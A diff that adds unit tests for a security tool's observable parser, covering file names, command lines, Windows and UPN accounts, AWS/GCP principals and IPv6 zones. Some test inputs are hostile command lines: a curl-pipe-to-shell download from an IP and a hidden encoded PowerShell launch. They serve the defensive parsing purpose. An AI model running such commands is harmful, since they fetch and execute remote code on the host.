@@ -1,6 +1,20 @@
 import { describe, test } from 'node:test';
 import assert from 'node:assert/strict';
-import { classifyHash, classifyIp, dedupeObservables, guessObservable, makeObservable, normalizeDomain, ObservableSet, refang } from './observables.js';
+import {
+  classifyHash,
+  classifyIp,
+  dedupeObservables,
+  executableOfCommandLine,
+  fileNameOfPath,
+  guessObservable,
+  makeObservable,
+  normalizeDomain,
+  ObservableSet,
+  parseAccount,
+  parseCloudPrincipal,
+  refang,
+  userOfAccount,
+} from './observables.js';
 import type { CanonicalObservable } from '../../common/canonical-alert.js';
 
 describe('refang', () => {
@@ -170,5 +184,140 @@ describe('dedupeObservables and ObservableSet', () => {
     assert.equal(guessObservable('7353f60b1739074eb17c5f4dddefe239')?.kind, 'md5');
     assert.equal(guessObservable('bad[.]example')?.kind, 'domain');
     assert.equal(guessObservable('just words'), undefined);
+  });
+});
+
+describe('file paths and command lines', () => {
+  test('fileNameOfPath takes the last part of Windows, device, UNC, POSIX and quoted paths', () => {
+    assert.equal(fileNameOfPath('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'), 'powershell.exe');
+    assert.equal(fileNameOfPath('\\Device\\HarddiskVolume3\\Users\\jdoe\\AppData\\Local\\Temp\\svch0st.exe'), 'svch0st.exe');
+    assert.equal(fileNameOfPath('\\\\fs01\\share$\\tools\\psexec.exe'), 'psexec.exe');
+    assert.equal(fileNameOfPath('/usr/bin/curl'), 'curl');
+    assert.equal(fileNameOfPath('"C:\\Program Files\\7-Zip\\7z.exe"'), '7z.exe');
+    assert.equal(fileNameOfPath('/var/www/html/uploads/'), 'uploads');
+    assert.equal(fileNameOfPath('C:\\'), undefined);
+    assert.equal(fileNameOfPath('/'), undefined);
+  });
+
+  test('executableOfCommandLine finds the program of quoted, unquoted Windows and POSIX command lines', () => {
+    assert.equal(
+      executableOfCommandLine('"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\x.docm"'),
+      'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
+    );
+    assert.equal(executableOfCommandLine('C:\\Program Files\\Foo Bar\\agent.exe --run'), 'C:\\Program Files\\Foo Bar\\agent.exe');
+    assert.equal(executableOfCommandLine('powershell.exe -nop -w hidden -enc SQBFAFgA'), 'powershell.exe');
+    assert.equal(executableOfCommandLine('/bin/sh -c "curl http://198.51.100.7/x | sh"'), '/bin/sh');
+    assert.equal(executableOfCommandLine('   '), undefined);
+  });
+
+  test('addCommandLine adds the line and the file name of its executable; addProcess adds path, line and hashes', () => {
+    const set = new ObservableSet();
+    set.addCommandLine('"C:\\Windows\\System32\\rundll32.exe" C:\\Users\\Public\\a.dll,Start', 'process.cmd_line');
+    set.addProcess({ path: '/usr/sbin/sshd', cmdline: 'sshd: root@notty', hashes: ['9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'] }, { path: 'p.path' });
+    assert.deepEqual(
+      set.toArray().map((o) => `${o.kind}:${o.value}`),
+      [
+        'command_line:"C:\\Windows\\System32\\rundll32.exe" C:\\Users\\Public\\a.dll,Start',
+        'file_name:rundll32.exe',
+        'file_name:sshd',
+        'command_line:sshd: root@notty',
+        'sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
+      ],
+    );
+  });
+});
+
+describe('accounts', () => {
+  test('parseAccount splits DOMAIN\\user, UPNs and machine accounts', () => {
+    assert.deepEqual(parseAccount('CORP\\jdoe'), { name: 'jdoe', domain: 'CORP', machine: false });
+    assert.deepEqual(parseAccount('jdoe@corp.example'), { name: 'jdoe', domain: 'corp.example', upn: 'jdoe@corp.example', machine: false });
+    assert.deepEqual(parseAccount('DC01$', 'CORP'), { name: 'DC01$', domain: 'CORP', machine: true, host: 'DC01' });
+    assert.deepEqual(parseAccount('NT AUTHORITY\\SYSTEM'), { name: 'SYSTEM', domain: 'NT AUTHORITY', machine: false });
+    assert.deepEqual(parseAccount('svc_backup', '-'), { name: 'svc_backup', machine: false });
+    assert.equal(parseAccount('-'), undefined);
+    assert.equal(parseAccount(42), undefined);
+  });
+
+  test('userOfAccount gives a person, with the UPN as e-mail, and nothing for a machine account', () => {
+    assert.deepEqual(userOfAccount('CORP\\jdoe'), { name: 'jdoe', domain: 'CORP' });
+    assert.deepEqual(userOfAccount('J.Doe@Corp.Example'), { name: 'J.Doe@Corp.Example', domain: 'Corp.Example', email_addr: 'j.doe@corp.example' });
+    assert.equal(userOfAccount('CORP\\DC01$'), undefined);
+  });
+
+  test('addAccount: user name for DOMAIN\\user, user and e-mail for a UPN, host for DC01$', () => {
+    const set = new ObservableSet();
+    set.addAccount('CORP\\jdoe', 'a');
+    set.addAccount('asmith@corp.example', 'b');
+    set.addAccount('DC01$', 'c', 'CORP');
+    set.addAccount(['WS-0142$', 'n/a'], 'd');
+    assert.deepEqual(
+      set.toArray().map((o) => `${o.kind}:${o.value}:${o.name ?? ''}`),
+      ['user:jdoe:a', 'user:asmith@corp.example:b', 'email:asmith@corp.example:b', 'hostname:DC01:c', 'hostname:WS-0142:d[0]'],
+    );
+  });
+});
+
+describe('cloud principals', () => {
+  test('GCP principal e-mails and IAM members, with or without a prefix', () => {
+    assert.deepEqual(parseCloudPrincipal('serviceAccount:ci-deployer@acme-prod-1234.iam.gserviceaccount.com'), {
+      user: 'ci-deployer@acme-prod-1234.iam.gserviceaccount.com',
+      email: 'ci-deployer@acme-prod-1234.iam.gserviceaccount.com',
+      type: 'service_account',
+    });
+    assert.equal(parseCloudPrincipal('user:Alice@Acme.example')?.email, 'alice@acme.example');
+    assert.equal(parseCloudPrincipal('principal://iam.googleapis.com/locations/global/workforcePools/p/subject/x'), undefined);
+  });
+
+  test('AWS ARNs and access key ids', () => {
+    assert.deepEqual(parseCloudPrincipal('arn:aws:iam::123456789012:user/ops/alice'), {
+      user: 'alice',
+      resource_uid: 'arn:aws:iam::123456789012:user/ops/alice',
+      type: 'aws_user',
+    });
+    assert.deepEqual(parseCloudPrincipal('arn:aws:sts::123456789012:assumed-role/OrgAdmin/bob@acme.example'), {
+      user: 'bob@acme.example',
+      resource_uid: 'arn:aws:sts::123456789012:assumed-role/OrgAdmin/bob@acme.example',
+      type: 'aws_assumed_role',
+    });
+    assert.deepEqual(parseCloudPrincipal('arn:aws:iam::123456789012:role/EKSNodeRole'), { resource_uid: 'arn:aws:iam::123456789012:role/EKSNodeRole', type: 'aws_role' });
+    assert.deepEqual(parseCloudPrincipal('arn:aws-us-gov:iam::123456789012:root'), { resource_uid: 'arn:aws-us-gov:iam::123456789012:root', type: 'aws_root' });
+    assert.deepEqual(parseCloudPrincipal('ASIAZ3EXAMPLE7KEY123'), { credential_uid: 'ASIAZ3EXAMPLE7KEY123', type: 'aws_access_key' });
+    assert.equal(parseCloudPrincipal('AKIA-not-a-key'), undefined);
+  });
+
+  test('addPrincipal spreads a principal over user, e-mail, resource and credential observables', () => {
+    const set = new ObservableSet();
+    set.addPrincipal('arn:aws:iam::123456789012:user/alice', 'arn');
+    set.addPrincipal('AKIAIOSFODNN7EXAMPLE', 'key');
+    set.addPrincipal(['sa@p.iam.gserviceaccount.com'], 'gcp');
+    const obs = set.toArray();
+    assert.deepEqual(
+      obs.map((o) => `${o.kind}:${o.value}:${o.name ?? ''}`),
+      [
+        'user:alice:arn',
+        'resource_uid:arn:aws:iam::123456789012:user/alice:arn',
+        'credential_uid:AKIAIOSFODNN7EXAMPLE:key',
+        'user:sa@p.iam.gserviceaccount.com:gcp[0]',
+        'email:sa@p.iam.gserviceaccount.com:gcp[0]',
+      ],
+    );
+    assert.deepEqual(
+      obs.filter((o) => o.kind === 'resource_uid' || o.kind === 'credential_uid').map((o) => [o.type_id, o.type]),
+      [
+        [10, 'Resource UID'],
+        [19, 'User Credential ID'],
+      ],
+    );
+  });
+});
+
+describe('IPv6 with zones', () => {
+  test('link-local addresses keep their address, lose the zone and count as private', () => {
+    for (const text of ['fe80::1c2a:3bff:fe4d:5e6f%eth0', '[fe80::1c2a:3bff:fe4d:5e6f%25eth0]', 'FE80::1C2A:3BFF:FE4D:5E6F%12']) {
+      const obs = makeObservable('ip', text, 'x');
+      assert.equal(obs?.value, 'fe80::1c2a:3bff:fe4d:5e6f', text);
+      assert.equal(obs?.is_private, true, text);
+    }
+    assert.equal(makeObservable('ip', '2001:db8:85a3::8a2e:370:7334')?.is_private, false);
   });
 });
